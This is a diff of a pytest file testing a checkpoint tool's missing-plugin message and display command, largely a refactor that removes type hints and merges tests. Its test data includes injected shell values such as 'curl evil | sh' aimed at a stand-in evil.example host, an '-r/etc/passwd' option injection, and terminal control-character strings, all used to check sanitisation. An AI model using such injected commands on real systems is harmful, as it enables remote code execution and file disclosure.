@@ -2,8 +2,6 @@
 
 import json
 import shutil
-from pathlib import Path
-from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -19,74 +17,60 @@ from .parts import trainer
 from .test_checkpoint_fuzz import sign
 
 EVIL = "\x1b[2J\n\r\u202e"
-ENTRY: dict[str, Any] = {"name": "BlurPool", "registered": "blurpool", "distribution": "a-plugin", "version": "1.2"}
+ENTRY = {"name": "BlurPool", "registered": "blurpool", "distribution": "a-plugin", "version": "1.2"}
 
 
 @pytest.fixture(scope="module")
-def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def saved(tmp_path_factory):
     folder = tmp_path_factory.mktemp("saved")
     with trainer(callbacks=[CheckpointSaver(folder)]) as made:
         made.fit()
     return resolve(folder)
 
 
-def test_a_missing_plugin_is_pinned_for_pip() -> None:
+def test_a_missing_plugin_is_pinned_for_pip_in_one_line_without_control_characters():
     assert what_is_missing(**ENTRY) == (
         "the checkpoint was saved with BlurPool (a-plugin 1.2), and this run does not have it: "
         "pip install a-plugin==1.2, and add 'blurpool' to the algorithms, or load the weights alone"
     )
-
-
-@pytest.mark.parametrize(
-    ("name", "value"),
-    [
-        ("distribution", "git+https://evil.example/x.git; curl evil | sh #"),
-        ("distribution", "-r/etc/passwd"),
-        ("distribution", "a-plugin[extra]"),
-        ("distribution", 7),
-        ("version", "1.2; curl evil | sh"),
-        ("version", "1.2,>=0"),
-        ("version", None),
-    ],
-)
-def test_only_the_name_and_version_of_a_distribution_get_into_a_command(name: str, value: Any) -> None:
-    assert "pip install" not in what_is_missing(**{**ENTRY, name: value})
-
-
-def test_a_missing_plugin_is_reported_in_one_line_without_control_characters() -> None:
     for name in ENTRY:
         for text in (f"x{EVIL}", "1.2\n\n"):
             assert what_is_missing(**{**ENTRY, name: text}).isprintable()
 
 
-def test_differences_contain_no_control_characters_either() -> None:
-    now: dict[str, Any] = {**ENTRY, "settings": {}}
+def test_only_the_name_and_version_of_a_distribution_get_into_a_command():
+    names = ["git+https://evil.example/x.git; curl evil | sh #", "-r/etc/passwd", "a-plugin[extra]", 7]
+    versions = ["1.2; curl evil | sh", "1.2,>=0", None]
+    for wrong in [{"distribution": name} for name in names] + [{"version": version} for version in versions]:
+        assert "pip install" not in what_is_missing(**{**ENTRY, **wrong}), wrong
+
+
+def test_differences_contain_no_control_characters_either():
+    now = {**ENTRY, "settings": {}}
     then = {**now, "distribution": EVIL, "version": EVIL, "settings": {f"rate{EVIL}": EVIL}}
-    order = {"a" + EVIL: ["BlurPool"]}
-    versions = {"torch": "2"}
     told = differences(
-        {"algorithms": [then], "order": order, "versions": {"torch": EVIL}, "training": {"loss_fn": EVIL}},
-        {"algorithms": [now], "order": {}, "versions": versions, "training": {"loss_fn": "MSELoss"}},
+        {
+            "algorithms": [then],
+            "order": {"a" + EVIL: ["BlurPool"]},
+            "versions": {"torch": EVIL},
+            "training": {"loss_fn": EVIL},
+        },
+        {"algorithms": [now], "order": {}, "versions": {"torch": "2"}, "training": {"loss_fn": "MSELoss"}},
     )
-    assert len(told) == 5
-    assert all(line.isprintable() for line in told)
+    assert (len(told), all(line.isprintable() for line in told)) == (5, True)
 
 
-def test_show_prints_no_control_characters(saved: Path, tmp_path: Path) -> None:
-    folder = tmp_path / "hostile"
-    shutil.copytree(saved, folder)
-    manifest = read_manifest(saved)
-    manifest |= {"run_name": f"x{EVIL}seed  1", "versions": {f"torch{EVIL}": EVIL}, "machine": {EVIL: EVIL}}
-    sign(folder, manifest)
+def test_show_prints_no_control_characters(saved, tmp_path):
+    folder = shutil.copytree(saved, tmp_path / "hostile")
+    hostile = {"run_name": f"x{EVIL}seed  1", "versions": {f"torch{EVIL}": EVIL}, "machine": {EVIL: EVIL}}
+    sign(folder, {**read_manifest(saved), **hostile})
     lines = CliRunner().invoke(main, ["checkpoint", "show", str(folder)]).output.removesuffix("\n").split("\n")
-    assert len(lines) == 4 + 1 + 1 + 3 + 1
-    assert all(line.isprintable() for line in lines)
+    assert (len(lines), all(line.isprintable() for line in lines)) == (4 + 1 + 1 + 3 + 1, True)
 
 
 @pytest.mark.parametrize("unit", ["epoch", "token_in_epoch", "elapsed_s"])
-def test_a_clock_that_no_run_has_is_refused(unit: str, saved: Path, tmp_path: Path) -> None:
-    folder = tmp_path / "hostile"
-    shutil.copytree(saved, folder)
+def test_a_clock_that_no_run_has_is_refused(unit, saved, tmp_path):
+    folder = shutil.copytree(saved, tmp_path / "hostile")
     state = json.loads((folder / "state.json").read_text())
     for value in (10**400, 2**63, -1, 1e308, True, "1", None):
         state["clock"][unit] = value
